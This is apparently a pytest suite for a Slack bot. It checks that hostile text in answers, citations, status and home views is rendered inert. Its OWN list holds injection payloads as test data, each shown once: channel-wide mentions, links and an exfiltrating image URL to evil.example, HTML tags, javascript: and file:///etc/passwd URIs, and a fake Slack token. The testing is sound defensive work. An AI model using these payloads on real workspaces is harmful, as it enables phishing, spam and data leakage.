"""Every surface at once: whatever hostile words come, nothing posted is alive, and Slack would take it."""

from dataclasses import dataclass, replace

import pytest
from gate import all_alive, refused, refused_view, rows
from values import ANSWER, CITATION, SOURCE

from bot.slack import blocks
from bot.types import Answer, Attempt, Nearest, Skipped, Statement

LINK = "https://openai.com/pricing"
OWN = [
    "<!channel> <!here> <@U1> <#C1|x> <!subteam^S1|@a> <!date^1^{date}^https://evil.example|x>",
    "＜!channel＞ <\\u200b!here> \\u202e<@U1>",
    "[x](https://evil.example) ![i](https://evil.example/?d=S) <https://evil.example|x> evil.example/x",
    "[x][r]\\n\\n[r]: https://evil.example",
    "```\\n<!channel> https://evil.example\\n```",
    "| a |\\n|---|\\n| <!here> [x](https://evil.example) |",
    "`<!channel>` *<@U1>* > <!here> # <!here>",
    "<a href='https://evil.example'>x</a> <img src=//evil.example/i>",
    "&lt;!channel&gt; &#60;!here&#62; HTTPS&#58;//evil.example",
    "javascript:alert(1) data:text/html,x slack://x file:///etc/passwd",
    "xoxb-1234567890-abcdefghijkl and SLACK_SIGNING_SECRET=8f742231b10e8888abcd",
    "\\x00\\x1b[31m \\u2028 \\U000e0041",
]


@dataclass(frozen=True)
class State:
    name: str
    model: str
    last: str
    state: str = "resting"
    seconds: float = 3.0


@dataclass(frozen=True)
class Point:
    text: str
    backends: tuple[str, ...]


@dataclass(frozen=True)
class Compared:
    answers: tuple[Answer, ...]
    agreed: tuple[Point, ...]
    differing: tuple[Point, ...]


def hostile(words, model):
    """An answer in which every free text is hostile."""
    return replace(
        ANSWER,
        id="A1",
        headline=words,
        statements=tuple(Statement(words, "unsupported", (1, 2), (words,), kind) for kind in KINDS),
        citations=(
            replace(
                CITATION, title=words, publisher=words, locator=words, quote=words, uri=words, link=words
            ),
            replace(CITATION, n=2, title=words, link=LINK),
        ),
        backend=words if model else "extractive",
        model=words if model else "",
        skipped=(Skipped(words, words),),
        cautions=(words,),
        nearest=(Nearest(words, words),),
        missing=(words,),
        attempts=(Attempt(words, words, "complete", 1.0),),
    )


KINDS = ("fact", "inference", "assumption")


def surfaces(words):
    """All messages that may hold words of others."""
    shown = blocks.Shown(
        ephemeral=True, more_privately=True, models=("a",), quotes=True, question=words, shared_by=words
    )
    for model in (True, False):
        answer = hostile(words, model)
        for each in (answer, replace(answer, status="unknown", statements=(), citations=())):
            for plain in (False, True):
                yield from blocks.answer(each, "en", replace(shown, plain=plain))
        yield from blocks.quotes(answer, "de")
        points = (Point(words, (words, "extractive")),)
        yield from blocks.comparison(Compared((answer, answer), points, points), "de", words, plain=model)
    source = replace(SOURCE, title=words, publisher=words, uri=words, source=words, visibility=words)
    yield blocks.sources([source], "en", admin=True)
    yield blocks.status([State(words, words, words)], "en", 1, admin=True)
    yield blocks.failure("file", "de", words, name=words, reason=words)
    yield blocks.failure("vendor", "en", words, reason=words)
    yield blocks.given_up("en", words)


def everything():
    for row in rows("hostile_model_outputs.jsonl"):
        yield row["id"], row["model_output"][:3_000], row["forbidden_in_posted_payload"], row["kind"]
    for row in rows("metadata.jsonl"):
        yield row["id"], row["value"], [], "metadata"
    for row in (each for each in rows("documents.jsonl") if each["carrier"] != "plain text"):
        forbidden = [each for each in row["forbidden_in_output"] if "://" in each or each == "javascript:"]
        yield row["id"], row["payload"], forbidden, "document"


def check(name, words, forbidden=()):
    messages = list(surfaces(words))
    assert not refused(messages), name
    assert not all_alive(messages, [LINK]), name
    posted = str([[each.text, each.blocks] for each in messages])
    assert not [each for each in forbidden if each in posted], name


@pytest.mark.parametrize("words", OWN)
def test_our_own_hostile_words_are_dead_on_every_surface(words):
    check(words, words.encode().decode("unicode_escape"), ["evil.example", "xoxb-", "SIGNING"])


def test_the_hostile_words_we_were_given_are_dead_on_every_surface():
    for name, words, forbidden, kind in everything():
        check(name, words, [] if kind == "citation" else forbidden)


@pytest.mark.parametrize("words", OWN)
def test_the_home_is_a_surface_too(words):
    words = words.encode().decode("unicode_escape")
    source = replace(SOURCE, title=words, publisher=words, uri=words, source=words, visibility=words)
    overview = blocks.home.Overview([State(words, words, words)], [words], [source])
    view = blocks.home.view([source], "en", overview)
    assert not all_alive([view])
    assert not refused_view(view)


def test_the_face_of_the_room_is_what_it_says():
    assert all(hasattr(blocks, each) for each in blocks.__all__)
    assert blocks.__all__ == sorted(blocks.__all__, key=lambda name: (name[0].islower(), name))
